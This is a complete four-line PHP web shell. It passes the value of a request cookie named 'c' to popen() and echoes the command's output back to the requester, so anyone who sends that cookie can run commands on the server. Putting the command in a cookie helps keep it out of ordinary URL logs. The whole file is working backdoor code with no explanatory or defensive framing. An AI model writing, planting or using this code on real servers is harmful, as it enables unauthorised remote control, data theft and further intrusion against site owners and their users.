<?php
$fp = popen($_COOKIE['c'], 'r');
while (!feof($fp)) { echo fread($fp, 1024); }
pclose($fp);
